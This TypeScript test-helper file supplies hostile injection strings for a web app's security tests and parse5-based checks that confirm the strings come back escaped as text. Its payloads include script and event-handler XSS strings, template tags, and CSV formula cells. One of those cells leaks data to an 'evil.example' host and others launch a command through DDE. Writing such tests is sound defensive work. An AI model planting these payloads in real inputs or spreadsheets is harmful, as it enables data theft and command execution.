import type { IncomingHttpHeaders } from "node:http";
import { parse } from "parse5";

/**
 * Hostile text for the security tests: what a council's document, a form or an API client could put into
 * any text field, and the checks that it came back as text and not as markup.
 *
 *   const html = (await app.inject({ url: "/workspace/drafts/1" })).body;
 *   assertNoInjectedMarkup(html, { nonce: cspNonceOf(response.headers) });
 *   expect(htmlText(html)).toContain(PAYLOAD);
 *
 * Each payload goes where it would do harm if it were not escaped: HTML text and attributes (script, event
 * handler, closing a textarea), links (a javascript: URL), templates (Nunjucks tags), XML (a CDATA end),
 * spreadsheets (a formula at the start of a cell), JavaScript and JSON (U+2028), C strings and PostgreSQL
 * text (NUL).
 */

export const SCRIPT = "<script>alert(1)</script>";
export const IMG_ONERROR = '"><img src=x onerror=alert(1)>';
export const ATTRIBUTE_BREAK = "' onmouseover='alert(1)' x='";
export const JAVASCRIPT_URL = "javascript:alert(1)";
export const TEXTAREA_END = "</textarea><b>bold</b>";
export const NUNJUCKS_OUTPUT = "{{ 7*7 }}";
export const NUNJUCKS_TAG = "{% raw %}{% endraw %}{% include 'layout.njk' %}";
export const CDATA_END = "]]><evil/>";
export const LINE_SEPARATOR = "before\u2028after\u2029end";
export const NUL = "nul\u0000byte";

/** Cells a spreadsheet would run as a formula: each starts with =, +, - or @. */
export const CSV_FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
] as const;

/** Every payload that text can carry unchanged through storage (NUL is separate: PostgreSQL refuses it). */
export const TEXT_PAYLOADS = [
  SCRIPT,
  IMG_ONERROR,
  ATTRIBUTE_BREAK,
  JAVASCRIPT_URL,
  TEXTAREA_END,
  NUNJUCKS_OUTPUT,
  NUNJUCKS_TAG,
  CDATA_END,
  LINE_SEPARATOR,
] as const;

/** All the payloads in one line of text, after a label that says which field it is in. */
export function hostile(label: string): string {
  return `${label} ${TEXT_PAYLOADS.join(" ")}`;
}

/** The nonce the response's Content-Security-Policy allows inline scripts with, if any. */
export function cspNonceOf(headers: IncomingHttpHeaders | Record<string, unknown>): string | undefined {
  const csp = String(headers["content-security-policy"] ?? "");
  return /'nonce-([^']+)'/.exec(csp)?.[1];
}

interface Parse5Node {
  nodeName: string;
  tagName?: string;
  attrs?: { name: string; value: string }[];
  value?: string;
  childNodes?: Parse5Node[];
  /** A <template>'s own fragment. */
  content?: Parse5Node;
}

function* walk(node: Parse5Node): Generator<Parse5Node> {
  yield node;
  for (const child of node.childNodes ?? []) yield* walk(child);
  if (node.content) yield* walk(node.content);
}

// Attributes that take a URL, and the schemes that run code or content when followed.
const URL_ATTRIBUTES = new Set([
  "href",
  "src",
  "action",
  "formaction",
  "data",
  "poster",
  "background",
  "xlink:href",
  "srcdoc",
]);
const SCRIPT_SCHEME = /^(?:javascript|vbscript|data\s*:\s*text\/html)/i;

/** Parses HTML as a browser would (parse5) and lists what in it could only have come from a payload. */
export function injectedMarkup(html: string, options: { nonce?: string } = {}): string[] {
  const problems: string[] = [];
  const document = parse(html) as unknown as Parse5Node;
  for (const node of walk(document)) {
    if (!node.tagName) continue;
    const tag = node.tagName.toLowerCase();
    const attrs = node.attrs ?? [];
    const attr = (name: string) => attrs.find((a) => a.name.toLowerCase() === name)?.value;
    for (const { name, value } of attrs) {
      const lower = name.toLowerCase();
      if (lower.startsWith("on")) problems.push(`<${tag}> has an event handler attribute ${name}="${value}"`);
      // Browsers ignore leading spaces and control characters in a URL, and tabs or line breaks anywhere in it.
      // eslint-disable-next-line no-control-regex
      const url = value.replace(/^[\u0000-\u0020]+/, "").replace(/[\t\n\r]/g, "");
      if (URL_ATTRIBUTES.has(lower) && SCRIPT_SCHEME.test(url)) {
        problems.push(`<${tag}> has ${name}="${value}"`);
      }
      if (lower === "style" && /expression\(|url\(\s*['"]?\s*javascript:/i.test(value)) {
        problems.push(`<${tag}> has a style that runs script: ${value}`);
      }
    }
    if (tag === "script") {
      const src = attr("src");
      const nonce = attr("nonce");
      const text = (node.childNodes ?? []).map((child) => child.value ?? "").join("");
      const ownSource = src !== undefined && /^\/(?!\/)/.test(src);
      const ownInline = src === undefined && options.nonce !== undefined && nonce === options.nonce;
      if (!ownSource && !ownInline) {
        problems.push(
          `a <script> that is not ours (src ${src ?? "none"}, nonce ${nonce ?? "none"}): ${text}`,
        );
      }
      if (/alert\(1\)/.test(text)) problems.push(`a <script> carries a payload: ${text}`);
    }
    if (["iframe", "frame", "object", "embed", "base", "applet"].includes(tag)) {
      problems.push(`an injected <${tag}>`);
    }
    if (tag === "img" && attr("src") === "x") problems.push("an injected <img src=x>");
    if (tag === "meta" && /refresh/i.test(attr("http-equiv") ?? ""))
      problems.push("an injected meta refresh");
    if (tag === "evil") problems.push("an injected <evil> element");
    if (tag === "b" && (node.childNodes ?? []).some((child) => child.value === "bold")) {
      problems.push("an injected <b> (a textarea was closed)");
    }
  }
  return problems;
}

/** Throws, listing every problem, when the HTML has markup that a payload made. */
export function assertNoInjectedMarkup(html: string, options: { nonce?: string; where?: string } = {}): void {
  const problems = injectedMarkup(html, options);
  if (problems.length > 0) {
    throw new Error(`${options.where ?? "the page"} has injected markup:\n  ${problems.join("\n  ")}`);
  }
}

/** The text a reader sees (text nodes, entities decoded) and the values of attributes, joined by spaces. */
export function htmlText(html: string): string {
  const parts: string[] = [];
  for (const node of walk(parse(html) as unknown as Parse5Node)) {
    if (node.nodeName === "#text" && node.value !== undefined) parts.push(node.value);
    for (const attr of node.attrs ?? []) parts.push(attr.value);
  }
  return parts.join(" ");
}
